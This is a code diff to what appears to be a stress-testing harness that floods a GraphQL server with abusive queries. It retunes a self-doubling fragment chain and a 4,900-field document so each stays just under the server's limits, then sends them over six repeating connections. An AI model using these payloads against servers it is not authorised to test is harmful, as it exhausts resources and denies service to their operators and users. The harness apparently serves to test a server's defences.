@@ -6,6 +6,10 @@ from attacker import attack
 from attacks.http import SMALL_BUFFER
 
 
+DOUBLINGS = 15  # 65,536 fields; the server takes 100,000
+FIELDS = 4900  # of a document; the server takes 5,000
+
+
 def asking(query):
     """A script that asks again and again; `query` makes a request that was not asked before from a number."""
     def script(peer):
@@ -53,10 +57,10 @@ def graphql_same_fields(me):
 @attack('graphql-fragments', asks=('graphql', 'info'))
 def graphql_fragments(me):
     """Six connections send fragments that use each other twice, so that each of them doubles the work of the next."""
-    chain = ' '.join(f'fragment f{number} on Header {{ ...f{number + 1} ...f{number + 1} }}' for number in range(24))
+    chain = ' '.join(f'fragment f{number} on Header {{ ...f{number + 1} ...f{number + 1} }}' for number in range(DOUBLINGS))
 
     def query(turn):
-        return wire.graphql(f'query q{turn} {{ block(height: 1) {{ header {{ ...f0 }} }} }} {chain} fragment f24 on Header {{ hash height }}')
+        return wire.graphql(f'query q{turn} {{ block(height: 1) {{ header {{ ...f0 }} }} }} {chain} fragment f{DOUBLINGS} on Header {{ hash height }}')
     me.run([asking(query)] * 6)
 
 
@@ -73,9 +77,9 @@ def graphql_batches(me):
 
 @attack('graphql-documents', asks=('graphql', 'info'))
 def graphql_documents(me):
-    """Six connections send documents of 256 KiB that take long to check and are refused."""
+    """Six connections send documents of 160 KB with as many fields as the server checks, none of which there is."""
     def query(turn):
-        return wire.graphql(f'query q{turn} {{' + ' '.join(f'a{number}: nothing(x: {{y: [{number}]}})' for number in range(7000)) + '}')
+        return wire.graphql(f'query q{turn} {{' + ' '.join(f'a{number}: nothing(x: {{y: [{number}]}})' for number in range(FIELDS)) + '}')
     me.run([asking(query)] * 6)
 
 
